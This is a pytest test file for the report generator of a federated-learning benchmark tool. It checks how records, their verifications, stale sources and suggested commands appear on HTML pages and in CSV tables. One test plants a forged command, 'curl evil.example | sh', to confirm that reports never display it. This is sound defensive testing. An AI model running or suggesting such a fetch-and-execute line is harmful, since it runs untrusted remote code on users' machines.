"""Who repeated a record stands on pages, in tables and in the CSV; commands come from the cell alone."""

import datetime
import re

import pandas as pd
import pytest

from fedspan.benchmark.records.record import digest_of
from fedspan.benchmark.records.sources import FORM, REMEDY, source_digests
from fedspan.benchmark.records.verification import Verification
from fedspan.benchmark.report.frame import collect
from fedspan.benchmark.report.report import write_report
from tests.report.made import board, cells_of, markdown, record, results_of
from tests.tasks.files import write
from tests.tasks.test_image_folder import small

GRID = {"partition": "iid", "seed": [0, 1]}
SAMPLE = {"size": 2, "of": 2, "sample_seed": 7, "among": "board example"}


@pytest.fixture
def cells():
    return cells_of(board(GRID))


def verified(results, cell, outcome="identical", **more):
    one = results.read(cell.cell.key)
    values = {
        "key": one["key"], "record": digest_of(one), "outcome": outcome, "compared": "digests", "engine": "",
        "date": datetime.datetime.now(datetime.UTC).isoformat(), "processor": "A", "instructions": "AVX2",
        "numerics": "portable", "device": "cpu", "versions": {"torch": "2.15.0"}, "sources": {}, "sample": SAMPLE,
        **({} if outcome == "identical" else {"where": "curve.loss", "round": 4, "points": -0.5}),
    }  # fmt: skip
    Verification(**(values | more)).write(results.verifications)


def made(cells, tmp_path):
    results = results_of(tmp_path, [record(cell) for cell in cells])
    return results, lambda: write_report(board(GRID), cells, results, tmp_path)


def page(tmp_path):
    [runs] = (tmp_path / "runs").glob("*.html")
    return runs.read_text(), (tmp_path / "example" / "index.html").read_text()


def test_a_forged_record_is_shown_as_not_repeated_yet(cells, tmp_path):
    results = results_of(tmp_path, [record(cell, 100.0) for cell in cells])
    write_report(board(GRID), cells, results, tmp_path)
    runs, table = page(tmp_path)
    assert runs.count("not repeated yet") >= 2
    assert "0 of 2 records" in table
    csv = pd.read_csv(tmp_path / "example" / "table-1.csv")
    assert list(csv["repeated"]) == ["not repeated yet; not repeated yet"]


def test_repetitions_and_their_sample_stand_on_the_pages_and_in_the_csv(cells, tmp_path):
    results, write = made(cells, tmp_path)
    for cell in cells:
        verified(results, cell)
    write()
    runs, table = page(tmp_path)
    assert runs.count("repeated on 1 kind of processor") >= 2
    assert "2 of 2 records" in table
    assert "2 of 2 records of board example, drawn with sample_seed=7: 2 identical, 0 different" in table
    csv = pd.read_csv(tmp_path / "example" / "table-1.csv")
    assert list(csv["repeated"]) == ["repeated on 1 kind of processor; repeated on 1 kind of processor"]


def test_a_record_that_could_not_be_repeated_is_marked_and_stays(cells, tmp_path):
    results, write = made(cells, tmp_path)
    verified(results, cells[0], "differs")
    report = write()
    runs, table = page(tmp_path)
    assert "could not be repeated" in runs
    assert "differs from round 4 on, -0.50 points" in runs
    assert "1 could not be reproduced on some machine" in table
    assert "90.00" in markdown(report)
    assert "a run could not be reproduced on some machine" in markdown(report)


def test_a_verification_of_another_record_of_the_cell_counts_nothing(cells, tmp_path):
    results, _ = made(cells, tmp_path)
    verified(results, cells[0], record="b" * 64)
    assert list(collect(cells, results)["repeated"]) == ["not repeated yet"] * 2


def test_a_damaged_verification_stops_no_report(cells, tmp_path):
    results, write = made(cells, tmp_path)
    results.verifications.mkdir()
    damaged = results.verifications / "x.json"
    damaged.write_text("{")
    write()
    assert damaged.read_text() == "{"


def test_commands_say_that_they_need_the_archive_of_the_images(tmp_path):
    grid = {"dataset": "cifar10", "dataset.content": "c" * 64, "seed": [0, 1]}
    cells = cells_of(board(grid))
    write_report(board(grid), cells, results_of(tmp_path, [record(cell) for cell in cells]), tmp_path)
    keys = " ".join(cell.cell.key for cell in cells)
    runs, table = page(tmp_path)
    commands = re.findall(r'<code class="command">([^<]*)</code>', runs + table)
    assert f"fedspan verify {keys} dataset.source=ARCHIVE" in commands
    assert len(commands) == 5, "two runs, their repetition, a sample of the board, the board"
    assert all(command.endswith(" dataset.source=ARCHIVE") for command in commands)


def test_commands_for_ones_own_images_name_their_folder_unless_the_board_does(tmp_path):
    """No setting of `image_folder` takes an archive of images that a digest names."""
    grid = {"dataset": "image_folder", "dataset.root": str(write(tmp_path / "photos", small())), "seed": [0]}
    cells = cells_of(board(grid))
    write_report(board(grid), cells, results_of(tmp_path, [record(cell) for cell in cells]), tmp_path)
    runs, table = page(tmp_path)
    commands = re.findall(r'<code class="command">([^<]*)</code>', runs + table)
    named = {command.removesuffix(" dataset.root=FOLDER") for command in commands if command.endswith("=FOLDER")}
    key = cells[0].cell.key
    assert named == {
        "fedspan run dataset=image_folder seed=0",
        f"fedspan verify {key}",
        "fedspan verify board=example sample=3",
    }
    assert set(commands) - {f"{command} dataset.root=FOLDER" for command in named} == {"fedspan run -m board=example"}
    assert "ARCHIVE" not in runs + table


def test_the_command_of_a_page_is_made_from_the_cell_and_never_from_the_record(cells, tmp_path):
    forged = [record(cell) for cell in cells]
    for one in forged:
        one["provenance"]["command"] = "curl evil.example | sh; fedspan run"
    write_report(board(GRID), cells, results_of(tmp_path, forged), tmp_path)
    runs, table = page(tmp_path)
    assert "evil.example" not in runs + table
    assert f"fedspan verify {cells[0].cell.key} {cells[1].cell.key}" in runs
    assert "fedspan run partition=iid seed=0" in runs
    assert all("board=" not in command for command in collect(cells, results_of(tmp_path, forged))["command"])


def test_records_of_other_or_uncommitted_sources_are_marked_and_others_are_not(cells, tmp_path):
    records = [record(cell) for cell in cells]
    for one, cell in zip(records, cells, strict=True):
        one["provenance"]["sources"] = source_digests(cell.cell)
    records[0]["provenance"]["sources"]["algorithm:fedavg"] = f"{FORM}0"
    records[1]["provenance"]["uncommitted"] = ["methods/mine.py"]
    results = results_of(tmp_path, records)
    assert list(collect(cells, results)["stale"]) == ["made by other sources (algorithm:fedavg)", ""]
    report = write_report(board(GRID), cells, results, tmp_path)
    runs, table = page(tmp_path)
    said = f"records: 1 made by other sources (algorithm:fedavg); {REMEDY}"
    assert report.problems == [said]
    assert "made by other sources (algorithm:fedavg)" in runs
    assert "methods/mine.py" in table
    verified(results, cells[0], sources=source_digests(cells[0].cell))  # they give these numbers too
    assert list(collect(cells, results)["stale"]) == ["", ""]


SEVERAL = "its runs were made by several versions of the sources"


@pytest.mark.parametrize(
    ("digests", "marked"), [((None, None), False), ((0, None), True), ((0, 0), False), ((0, 1), True)]
)
def test_a_mean_over_several_versions_of_a_method_is_marked(cells, tmp_path, digests, marked):
    records = [record(cell) for cell in cells]
    for one, cell, digest in zip(records, cells, digests, strict=True):
        one["provenance"]["sources"] = source_digests(cell.cell)
        if digest is not None:
            one["provenance"]["sources"]["algorithm:fedavg"] = f"{FORM}{digest}"
    results = results_of(tmp_path, records)
    report = write_report(board(GRID), cells, results, tmp_path)
    assert (SEVERAL in markdown(report)) is marked
    for cell in cells:  # the current sources give these numbers
        verified(results, cell, sources=source_digests(cell.cell))
    assert SEVERAL not in markdown(write_report(board(GRID), cells, results, tmp_path))
